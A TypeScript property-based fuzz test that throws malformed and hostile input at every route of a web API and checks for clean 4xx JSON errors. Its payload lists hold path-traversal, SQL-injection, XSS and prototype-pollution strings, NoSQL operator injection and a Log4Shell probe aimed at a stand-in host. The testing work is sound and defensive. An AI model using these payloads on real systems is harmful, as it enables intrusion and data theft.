import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ERROR_CODES } from '../../shared/contracts/common.ts';
import { LIMITS } from '../../shared/limits.ts';
import { createAgent } from './agent.ts';
import { ownerWithEveryRole } from './factories.ts';
import { buildTestApp, type TestApp } from './harness.ts';

/**
 * Every operation in the OpenAPI document, fed malformed, oversized, wrong-typed and hostile input,
 * anonymously and as a signed-in admin holding a valid CSRF token (so validation is reached).
 * Nothing may answer 5xx, and every error must be our JSON error body with a message.
 */

type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
interface JsonSchema {
  type?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  anyOf?: JsonSchema[];
  format?: string;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
}
interface Operation {
  method: Method;
  path: string;
  hasBody: boolean;
  bodySchema: JsonSchema | null;
  hasPathParams: boolean;
  /** A path parameter with a shape to check (a UUID, a day): one that takes any text is never a 400, only a 404. */
  checksPathParams: boolean;
  query: string[];
}
/** Whether a path parameter's schema refuses some text the router lets through (a format, a pattern, a list). */
function hasShape(schema: JsonSchema | undefined): boolean {
  return Boolean(schema && (schema.format || schema.enum || (schema as { pattern?: string }).pattern));
}
interface Caller {
  name: 'anonymous' | 'admin';
  headers: Record<string, string>;
}

// Fixed so a failure reproduces; BAD_INPUT_SEED and BAD_INPUT_RUNS explore further.
const SEED = Number(process.env.BAD_INPUT_SEED ?? 20_260_101);
// Runs per operation: the coverage check below (validation reached on every route) needs the
// number of runs to grow with the number of routes, or a new route starves an old one.
const RUNS_PER_OPERATION = Number(process.env.BAD_INPUT_RUNS_PER_OPERATION ?? 20);
const RUNS = process.env.BAD_INPUT_RUNS ? Number(process.env.BAD_INPUT_RUNS) : null;
const UNSAFE = new Set<Method>(['POST', 'PUT', 'PATCH', 'DELETE']);

let t: TestApp;
let operations: Operation[];
let anonymous: Caller;
let admin: Caller;
let bodyFieldNames: string[];

beforeAll(async () => {
  t = await buildTestApp();
  // Setup first: otherwise a random but valid body could set the organization up.
  admin = { name: 'admin', headers: (await ownerWithEveryRole(t)).headers };
  const visitor = createAgent(t.app);
  const anonymousToken = await visitor.csrfToken();
  anonymous = { name: 'anonymous', headers: { cookie: `__Host-kinship-csrf=${anonymousToken}`, 'x-csrf-token': anonymousToken } };

  const doc = (await t.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as {
    paths: Record<
      string,
      Record<
        string,
        {
          requestBody?: { content: Record<string, { schema: JsonSchema }> };
          parameters?: { in: string; name: string; schema?: JsonSchema }[];
        }
      >
    >;
  };
  operations = [];
  const fields = new Set<string>();
  for (const [path, methods] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(methods)) {
      const parameters = op.parameters ?? [];
      const bodySchema = op.requestBody?.content['application/json']?.schema ?? null;
      operations.push({
        method: method.toUpperCase() as Method,
        path,
        hasBody: Boolean(op.requestBody),
        bodySchema,
        hasPathParams: parameters.some((p) => p.in === 'path'),
        checksPathParams: parameters.some((p) => p.in === 'path' && hasShape(p.schema)),
        query: parameters.filter((p) => p.in === 'query').map((p) => p.name),
      });
      for (const key of Object.keys(bodySchema?.properties ?? {})) fields.add(key);
    }
  }
  bodyFieldNames = [...fields];
});
afterAll(async () => t.close());

/** Signing the admin out would stop the rest of the run from reaching validation; sign-out is covered anonymously. */
const callable = (caller: Caller, op: Operation) => !(caller.name === 'admin' && op.path === '/api/auth/sign-out');

function substitute(path: string, segment: string) {
  return path.replace(/\{[^}]+\}/g, segment);
}

function encodeSegment(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    // Lone surrogates cannot be encoded: send their replacement, as a browser would.
    return encodeURIComponent(value.toWellFormed());
  }
}

async function send(caller: Caller, method: Method, url: string, payload?: string, contentType = 'application/json') {
  const withBody = payload !== undefined && method !== 'GET';
  return t.app.inject({
    method,
    url,
    headers: { ...caller.headers, ...(withBody ? { 'content-type': contentType } : {}) },
    ...(withBody ? { payload } : {}),
  });
}

const issues: string[] = [];

/** Never a 5xx; every error is our JSON body with a known code and a message a person can read. Returns the problem, if any. */
function problemWith(response: LightMyRequestResponse): string | null {
  if (response.statusCode >= 500) return `${response.statusCode}: ${response.body.slice(0, 200)}`;
  if (response.statusCode < 400) return null;
  let body: { error?: { code?: unknown; message?: unknown } } | null = null;
  try {
    body = response.json();
  } catch {
    return `non-JSON ${response.statusCode}: ${response.body.slice(0, 200)}`;
  }
  const code = body?.error?.code;
  const message = body?.error?.message;
  if (
    typeof code !== 'string' ||
    !(ERROR_CODES as readonly string[]).includes(code) ||
    typeof message !== 'string' ||
    message.trim() === ''
  ) {
    return `bad error body ${response.statusCode}: ${response.body.slice(0, 200)}`;
  }
  return null;
}

function checkSane(response: LightMyRequestResponse, context: string) {
  const problem = problemWith(response);
  if (problem) issues.push(`${problem} — ${context}`);
  return problem === null;
}

function expectNoIssues() {
  const found = issues.splice(0);
  expect(found, found.slice(0, 10).join('\n')).toEqual([]);
}

// ---- generators ------------------------------------------------------------------------------

const HOSTILE_STRINGS = [
  '../',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  "' OR '1'='1",
  "1'; DROP TABLE users; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\u0000',
  'nul\u0000byte',
  '%00',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally.
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'NaN',
  '-1',
  '1e400',
  '9'.repeat(40),
  'ü🙂𝕏\u202e\u200b',
  '\ud800',
  'a'.repeat(10_000),
  ' ',
];
const hostileString = fc.constantFrom(...HOSTILE_STRINGS);
const anyString = fc.oneof(
  fc.string({ maxLength: 60 }),
  fc.string({ unit: 'binary', maxLength: 60 }),
  hostileString,
  fc.string({ minLength: 101, maxLength: 400 }),
);
const pathSegment = fc.oneof(
  fc.uuid().map(encodeSegment),
  anyString.map(encodeSegment),
  // Unencoded and half-encoded segments a hand-written client might send.
  fc.constantFrom('..', '.', '%', '%E0%A4%A', '%2e%2e%2f', '..%2F..%2F', '%ff%fe', 'a%00b'),
);
const scalar = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null), anyString);
const jsonish = fc.oneof(scalar, fc.jsonValue({ maxDepth: 4 }), fc.array(scalar, { maxLength: 5 }));

/** Bodies that break every body schema (all are strict objects): not an object, or a key no schema has. */
const violatingBody = (fieldNames: string[]) =>
  fc.oneof(
    jsonish.filter((value) => value === null || typeof value !== 'object' || Array.isArray(value)).map((v) => JSON.stringify(v)),
    fc
      .record({
        known: fc.dictionary(fc.constantFrom(...fieldNames), jsonish, { maxKeys: 4 }),
        key: fc.oneof(fc.string({ maxLength: 20 }), hostileString).map((k) => `x-hostile-${k}`),
        value: jsonish,
      })
      .map(({ known, key, value }) => JSON.stringify({ ...known, [key]: value })),
    jsonish.map((value) => `{"__proto__":${JSON.stringify(value) ?? 'null'}}`),
    jsonish.map((value) => `{"constructor":{"prototype":${JSON.stringify(value) ?? 'null'}}}`),
  );

/** Bodies that may or may not fit a schema: right field names, anything as values. */
const wrongTypedBody = (fieldNames: string[]) =>
  fc.dictionary(fc.constantFrom(...fieldNames), jsonish, { minKeys: 1, maxKeys: 5 }).map((body) => JSON.stringify(body));

const hostileQuery = fc
  .array(
    fc.tuple(
      fc.oneof(
        fc.constantFrom('q', 'before', 'limit', '__proto__', 'constructor', '__proto__[admin]', 'q[]', 'before[0]'),
        fc.string({ maxLength: 10 }),
      ),
      anyString,
    ),
    { minLength: 1, maxLength: 4 },
  )
  .map((pairs) => pairs.map(([key, value]) => `${encodeSegment(key)}=${encodeSegment(value)}`).join('&'));

/** Plausible values for fields whose name says what they hold, so shaped bodies often get past validation. */
const PLAUSIBLE: Record<string, fc.Arbitrary<unknown>> = {
  email: fc.oneof(
    fc.emailAddress(),
    fc.constantFrom('admin@example.org', 'ADMIN@EXAMPLE.ORG', 'a@b', 'a\u0000@example.org', '@example.org'),
  ),
  password: fc.string({ minLength: 12, maxLength: 40 }),
  currentPassword: fc.string({ minLength: 1, maxLength: 40 }),
  newPassword: fc.string({ minLength: 12, maxLength: 40 }),
  token: fc.string({ minLength: 20, maxLength: 60 }),
  code: fc.oneof(
    fc.integer({ min: 0, max: 999_999 }).map((n) => String(n).padStart(6, '0')),
    fc.constantFrom('abcd-2345', 'ABCD-2345'),
  ),
  timezone: fc.constantFrom('UTC', 'America/New_York', 'Europe/Madrid', 'Mars/Olympus_Mons', 'Etc/GMT+14', 'utc', '../../etc/localtime'),
  // Turning this on would lock the admin out of the rest of the run (staff must enrol first).
  requireStaffMfa: fc.constant(false),
};

function stringFor(schema: JsonSchema): fc.Arbitrary<string> {
  if (schema.format === 'uuid') return fc.uuid();
  if (schema.format === 'date-time') {
    return fc
      .date({ min: new Date('0001-01-01T00:00:00Z'), max: new Date('9999-12-31T00:00:00Z'), noInvalidDate: true })
      .map((d) => d.toISOString());
  }
  if (schema.format === 'uri') return fc.oneof(fc.webUrl(), fc.constantFrom('javascript:alert(1)', 'file:///etc/passwd', 'http://'));
  return fc.string({ minLength: schema.minLength ?? 0, maxLength: Math.min(schema.maxLength ?? 60, 120) });
}

/** A body of the right shape (fields, types, enums, sizes) whose text values are sometimes hostile. */
function shaped(schema: JsonSchema, name = ''): fc.Arbitrary<unknown> {
  const plausible = PLAUSIBLE[name];
  if (plausible) return fc.oneof({ weight: 4, arbitrary: plausible }, { weight: 1, arbitrary: hostileString });
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((option) => shaped(option, name)));
  if (schema.enum) return fc.constantFrom(...schema.enum);
  switch (schema.type) {
    case 'object': {
      const model: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [key, child] of Object.entries(schema.properties ?? {})) model[key] = shaped(child, key);
      return fc.record(model, { requiredKeys: (schema.required ?? []).filter((key) => key in model) });
    }
    case 'array': {
      // Short arrays keep runs fast, but never shorter than the schema's minimum (BARC-10 needs exactly ten).
      const minLength = schema.minItems ?? 0;
      return fc.array(shaped(schema.items ?? {}, name), { minLength, maxLength: Math.max(minLength, Math.min(schema.maxItems ?? 4, 4)) });
    }
    case 'string':
      return fc.oneof(
        { weight: 3, arbitrary: stringFor(schema) },
        { weight: 1, arbitrary: hostileString },
        { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
      );
    case 'boolean':
      return fc.boolean();
    case 'integer':
    case 'number':
      return fc.oneof(fc.integer(), fc.constantFrom(0, -1, 1.5, Number.MAX_SAFE_INTEGER, 1e308));
    case 'null':
      return fc.constant(null);
    default:
      return jsonish;
  }
}

/** Each generated body, serialized, and whether it certainly breaks the operation's schema. */
function bodiesFor(op: Operation) {
  const fieldNames = Object.keys(op.bodySchema?.properties ?? {});
  return fc.oneof(
    violatingBody(bodyFieldNames).map((payload) => ({ payload, violates: true })),
    wrongTypedBody(fieldNames.length > 0 ? fieldNames : bodyFieldNames).map((payload) => ({ payload, violates: false })),
    shaped(op.bodySchema ?? { type: 'object' }).map((value) => ({ payload: JSON.stringify(value) ?? 'null', violates: false })),
  );
}

// ---- fixed hostile cases ------------------------------------------------------------------------

const deepArray = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const deepObject = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
const FIXED_BODIES: [string, string][] = [
  ['null', 'null'],
  ['number', '42'],
  ['string', '"hello"'],
  ['array', '[1,2,3]'],
  ['array of objects', '[{"email":"a@example.org"}]'],
  ['boolean', 'true'],
  ['empty object', '{}'],
  ['__proto__ pollution', '{"__proto__":{"roles":["admin"],"isAdmin":true}}'],
  ['constructor pollution', '{"constructor":{"prototype":{"isAdmin":true}}}'],
  ['deeply nested arrays', deepArray(5_000)],
  ['deeply nested objects', deepObject(5_000)],
  ['deep nesting with __proto__', `${'['.repeat(5_000)}{"__proto__":1}${']'.repeat(5_000)}`],
  ['deep nesting with constructor', `${'{"a":'.repeat(3_000)}{"constructor":{"prototype":1}}${'}'.repeat(3_000)}`],
  ['numbers where strings go', '{"email":1,"password":2,"token":3,"alias":4,"roles":5,"scopes":6,"subjectId":7,"granteeId":8}'],
  ['arrays where strings go', '{"email":[],"password":[],"token":[],"code":[],"reason":[],"purpose":[]}'],
  ['objects where strings go', '{"email":{},"password":{"$ne":null},"token":{"$gt":""},"code":{}}'],
  ['huge string field', JSON.stringify({ email: 'a'.repeat(60_000) })],
  [
    'NUL bytes',
    JSON.stringify({
      email: 'a\u0000@example.org',
      password: 'p\u0000'.repeat(8),
      alias: 'nul\u0000',
      token: '\u0000'.repeat(30),
      q: '\u0000',
    }),
  ],
];
/** Routes that take a file as their body, with their own larger limit (tested where they are defined). */
const LARGER_BODY_ROUTES = new Set(['POST /api/admin/meeting-sources/{id}/imports']);
const INVALID_JSON = ['{', '{"email":', "{'email':'a'}", '{"a":1,}', 'undefined', 'NaN', '\u0000', '{"a":"\\u00"}', '\ufeff{}x'];

describe('every operation in the OpenAPI document', () => {
  it('is found (the document lists the routes)', () => {
    expect(operations.length).toBeGreaterThanOrEqual(30);
    expect(operations.filter((op) => op.hasBody).length).toBeGreaterThanOrEqual(15);
    expect(bodyFieldNames).toEqual(expect.arrayContaining(['email', 'password', 'token', 'alias', 'roles', 'scopes']));
  });

  for (const callerName of ['anonymous', 'admin'] as const) {
    describe(`as ${callerName}`, () => {
      const caller = () => (callerName === 'admin' ? admin : anonymous);

      it('answers fixed hostile bodies with a 4xx error (never 2xx for a body that breaks the schema)', async () => {
        for (const op of operations.filter((o) => UNSAFE.has(o.method) && callable(caller(), o))) {
          const url = substitute(op.path, '6f1c1f0e-2b6c-4c5e-9d7a-0d5f2c9b8a11');
          for (const [name, payload] of FIXED_BODIES) {
            const response = await send(caller(), op.method, url, payload);
            const context = `${callerName} ${op.method} ${op.path} ${name}`;
            if (!checkSane(response, context)) continue;
            const breaksSchema = op.hasBody && name !== 'empty object';
            if ((breaksSchema || op.hasPathParams) && response.statusCode < 400) issues.push(`${response.statusCode} for ${context}`);
          }
        }
        expectNoIssues();
      }, 180_000);

      it('refuses bodies over 64 KiB (413 once past authentication), non-JSON types and invalid JSON', async () => {
        const oversized = JSON.stringify({ email: 'a@example.org', padding: 'x'.repeat(LIMITS.bodyBytes + 10) });
        for (const op of operations.filter((o) => UNSAFE.has(o.method) && callable(caller(), o))) {
          const url = substitute(op.path, '6f1c1f0e-2b6c-4c5e-9d7a-0d5f2c9b8a11');
          const context = `${callerName} ${op.method} ${op.path}`;
          // Anonymous callers are stopped before the body is read on routes that need a session (401).
          const reachesParsing = callerName === 'admin' || (await send(caller(), op.method, url, '{}')).statusCode !== 401;

          const big = await send(caller(), op.method, url, oversized);
          const uploadRoute = LARGER_BODY_ROUTES.has(`${op.method} ${op.path}`);
          if (checkSane(big, `${context} oversized`) && reachesParsing && !uploadRoute && big.statusCode !== 413) {
            issues.push(`${big.statusCode} (wanted 413) for oversized ${context}`);
          }

          for (const [type, payload] of [
            ['text/plain', 'email=a@example.org'],
            ['application/x-www-form-urlencoded', 'email=a%40example.org&password=x'],
            ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="email"\r\n\r\na\r\n--x--'],
            ['application/xml', '<email>a@example.org</email>'],
          ] as const) {
            const response = await send(caller(), op.method, url, payload, type);
            if (!checkSane(response, `${context} ${type}`)) continue;
            if (reachesParsing && (op.hasBody || type !== 'text/plain') && ![400, 415].includes(response.statusCode)) {
              issues.push(`${response.statusCode} (wanted 415 or 400) for ${type} ${context}`);
            }
            if (!reachesParsing && response.statusCode < 400) issues.push(`${response.statusCode} for ${type} ${context}`);
          }

          for (const payload of INVALID_JSON) {
            const response = await send(caller(), op.method, url, payload);
            if (!checkSane(response, `${context} invalid JSON ${JSON.stringify(payload)}`)) continue;
            if (reachesParsing && response.statusCode !== 400) {
              issues.push(`${response.statusCode} (wanted 400) for invalid JSON ${JSON.stringify(payload)} ${context}`);
            }
          }
        }
        expectNoIssues();
      });

      it('survives random hostile path parameters, queries and bodies (property)', async () => {
        const ops = operations.filter((o) => callable(caller(), o));
        const validationSeen = new Set<string>();
        await fc.assert(
          fc.asyncProperty(
            fc.nat({ max: ops.length - 1 }).chain((index) => fc.tuple(fc.constant(index), bodiesFor(ops[index] as Operation))),
            pathSegment,
            fc.option(hostileQuery, { nil: undefined }),
            async ([index, body], segment, query) => {
              const op = ops[index] as Operation;
              const url = `${substitute(op.path, segment)}${query ? `?${query}` : ''}`;
              const response = await send(caller(), op.method, url, UNSAFE.has(op.method) ? body.payload : undefined);
              const problem = problemWith(response);
              if (problem) throw new Error(`${op.method} ${op.path}: ${problem}`);
              // No random id names a real object, and a body that breaks the schema is never accepted.
              if (op.hasPathParams && response.statusCode < 400) throw new Error(`${response.statusCode} for ${op.method} ${op.path}`);
              if (op.hasBody && body.violates && response.statusCode < 400)
                throw new Error(`${response.statusCode} for ${op.method} ${op.path}`);
              if (response.statusCode === 400 && response.json().error.code === 'VALIDATION_FAILED')
                validationSeen.add(`${op.method} ${op.path}`);
            },
          ),
          { seed: callerName === 'admin' ? SEED : SEED + 1, numRuns: RUNS ?? Math.max(900, ops.length * RUNS_PER_OPERATION) },
        );
        if (callerName === 'admin') {
          // The admin's requests reached validation on (nearly) every route with a body or parameters.
          // Random sampling can pass a route by; those get one plainly invalid request each, so the
          // check does not depend on how the seed spreads its samples over the routes.
          const validated = ops.filter((o) => o.hasBody || o.checksPathParams || o.query.length > 0);
          for (const op of validated.filter((o) => !validationSeen.has(`${o.method} ${o.path}`))) {
            const url = `${substitute(op.path, 'not-an-id')}${op.query.length > 0 ? '?limit=-1&tz=Nowhere%2FNever' : ''}`;
            const response = await send(caller(), op.method, url, op.hasBody ? '{"unexpected":[]}' : undefined);
            if (response.statusCode === 400 && response.json().error.code === 'VALIDATION_FAILED')
              validationSeen.add(`${op.method} ${op.path}`);
          }
          const missed = validated.filter((o) => !validationSeen.has(`${o.method} ${o.path}`));
          expect(missed.map((o) => `${o.method} ${o.path}`)).toEqual([]);
        }
      }, 300_000);
    });
  }

  it('left the admin signed in throughout (so validation, not authentication, answered)', async () => {
    const session = (await t.app.inject({ method: 'GET', url: '/api/session', headers: admin.headers })).json();
    expect(session.user?.roles).toContain('admin');
  });

  it('answers malformed URLs and unknown routes with a 4xx JSON error', async () => {
    for (const url of [
      '/api/%',
      '/api/people/%E0%A4%A',
      '/api/does-not-exist',
      `/api/people/${'a'.repeat(5_000)}`,
      '/api//people',
      '/api/people/%00',
    ]) {
      for (const caller of [anonymous, admin]) {
        for (const method of ['GET', 'POST', 'DELETE'] as const) {
          const response = await send(caller, method, url, method === 'GET' ? undefined : '{}');
          checkSane(response, `${caller.name} ${method} ${url.slice(0, 80)}`);
          if (response.statusCode < 400) issues.push(`${response.statusCode} for ${method} ${url.slice(0, 80)}`);
        }
      }
    }
    expectNoIssues();
  });
});

describe('NUL characters (PostgreSQL text cannot hold them)', () => {
  it('are refused with a 400 naming the field, before anything reaches the database', async () => {
    const cases: [Caller, Method, string, unknown, string][] = [
      [anonymous, 'POST', '/api/auth/sign-in', { email: 'a\u0000@example.org', password: 'anything at all' }, 'body.email'],
      [admin, 'PATCH', '/api/me/profile', { legalName: 'Ada\u0000Lovelace' }, 'body.legalName'],
      [admin, 'PATCH', '/api/admin/settings', { crisisLines: [{ name: 'Line\u0000' }] }, 'body.crisisLines.0.name'],
      [admin, 'GET', '/api/people?q=a%00b', undefined, 'query.q'],
    ];
    for (const [caller, method, url, body, path] of cases) {
      const response = await send(caller, method, url, body === undefined ? undefined : JSON.stringify(body));
      expect(response.statusCode, url).toBe(400);
      expect(response.json().error).toMatchObject({ code: 'VALIDATION_FAILED', fields: [{ path }] });
    }
    const settings = (await t.app.inject({ method: 'GET', url: '/api/admin/settings', headers: admin.headers })).json();
    expect(JSON.stringify(settings)).not.toContain('\\u0000');
  });
});
